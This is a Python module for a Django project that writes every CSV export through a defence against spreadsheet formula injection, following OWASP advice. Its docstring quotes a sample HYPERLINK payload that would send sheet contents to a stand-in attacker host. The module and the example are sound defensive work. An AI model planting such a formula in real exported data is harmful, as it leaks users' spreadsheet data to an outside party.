"""Every CSV the project writes goes through here, so none can carry a live formula.

A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@` as a formula (and
some also after a leading tab or carriage return): a customer's comment
`=HYPERLINK("http://evil.example/?"&A1,"details")` would become a link that sends the
sheet away. Following OWASP's advice on CSV injection, a text cell that begins with one of
these characters is written with a leading `'`, which makes spreadsheets show it as text.

Only text is neutralised. Numbers we compute (an NPS of -12, a change of -60.0) are
passed as int, float or Decimal and written as they are, so they stay numbers in a
spreadsheet; a value that must stay numeric must therefore never be formatted to a
string first. Text that merely looks like a negative number ("-12" typed by a customer
or a CRM) is text and gets the `'`: nobody can tell it apart from "-1+A1" by its start.

No other module imports `csv` to write (tests/test_architecture.py checks it).
"""

import csv
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any, Protocol, TextIO

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = (int, float, Decimal)


class Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell_neutralise(value: object) -> object:
    """A number stays a number; text a spreadsheet would run as a formula gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, NUMBERS) and not isinstance(value, bool):
        return value
    text = str(value)  # also lazy translations, dates
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SpreadsheetWriter:
    """csv.writer's writerow/writerows, every cell neutralised."""

    def __init__(self, stream: Writable) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([cell_neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_rows(text: str) -> Iterator[list[str]]:
    """The rows of a CSV text (reading runs nothing: no neutralising needed)."""
    return csv.reader(io.StringIO(text, newline=""))


def csv_stream_rows(stream: TextIO) -> Iterator[list[str]]:
    """The rows of a CSV file opened as text with newline="", read one at a time."""
    return csv.reader(stream)


def csv_download(
    filename: str, header: Iterable[object], rows: Iterable[Iterable[object]]
) -> HttpResponse:
    """A CSV attachment spreadsheet programs open as UTF-8, every cell neutralised."""
    answer = HttpResponse(content_type="text/csv; charset=utf-8")
    answer["Content-Disposition"] = f'attachment; filename="{filename}"'
    answer.write("\ufeff")  # a BOM, so spreadsheet programs read Chinese text as UTF-8
    writer = SpreadsheetWriter(answer)
    writer.writerow(header)
    writer.writerows(rows)
    return answer
